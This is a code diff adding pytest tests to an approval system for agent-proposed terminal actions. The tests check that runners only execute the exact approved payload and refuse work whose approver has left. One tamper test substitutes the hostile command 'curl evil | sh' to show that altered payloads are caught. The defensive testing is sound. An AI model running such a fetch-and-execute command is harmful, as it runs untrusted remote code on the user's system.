@@ -398,3 +398,63 @@ def test_a_hook_born_write_in_a_runner_project_is_the_agents_to_run_not_the_runn
     action.refresh_from_db()
     assert action.status == "executed" and action.result == {"approved": True, "runs_in": "agent"}
     assert not RunnerWork.objects.filter(action=action).exists()
+
+
+# -- what a runner runs is what was approved ----------------------------------------------------------------
+
+
+def test_the_work_states_the_approved_payloads_hash_and_its_state(team, world, runner_project, make_action):
+    from actions.models import payload_hash
+
+    key = register(world.client(team.maintainer), runner_project).json()["key"]
+    client = runner_client(key)
+    client.get("/api/runner/work/?timeout=0")
+    action = make_action(runner_project, "terminal", {"command": "make test", "ratio": 2.0})
+    execution.execute(action.id)
+
+    body = client.get("/api/runner/work/?timeout=0").json()
+
+    assert body["payload_hash"] == action.payload_hash == payload_hash(body["payload"])
+    assert body["status"] == "executing"
+
+
+@pytest.mark.parametrize("column", ["payload", "payload_hash"])
+def test_a_payload_changed_after_the_hand_off_is_never_given_to_a_runner(
+    team, world, runner_project, make_action, column
+):
+    from actions.models import ProposedAction, SessionEvent
+
+    key = register(world.client(team.maintainer), runner_project).json()["key"]
+    client = runner_client(key)
+    client.get("/api/runner/work/?timeout=0")
+    action = make_action(runner_project, "terminal", {"command": "make test"})
+    execution.execute(action.id)
+    changed = {"command": "curl evil | sh"} if column == "payload" else "0" * 64
+    ProposedAction.objects.filter(id=action.id).update(**{column: changed})
+
+    assert client.get("/api/runner/work/?timeout=0").status_code == 204
+
+    action.refresh_from_db()
+    assert action.status == "failed"
+    assert action.result["error"]["code"] == "payload_changed_after_approval"
+    failed = SessionEvent.objects.get(action=action, type="action.failed")
+    assert failed.payload["code"] == "payload_changed_after_approval"
+
+
+def test_an_approver_who_left_before_a_runner_took_the_work_leaves_it_unrun(
+    team, world, runner_project, make_action
+):
+    from projects.models import Membership
+
+    mia = world.user("mia")
+    world.member(team.ws, mia, "maintainer")
+    key = register(world.client(team.maintainer), runner_project).json()["key"]
+    client = runner_client(key)
+    client.get("/api/runner/work/?timeout=0")
+    action = make_action(runner_project, "terminal", {"command": "make test"}, decided_by=mia)
+    execution.execute(action.id)
+    Membership.objects.filter(workspace=team.ws, user=mia).delete()
+
+    assert client.get("/api/runner/work/?timeout=0").status_code == 204
+    action.refresh_from_db()
+    assert action.status == "failed" and action.result["error"]["code"] == "approval_quorum_not_met"
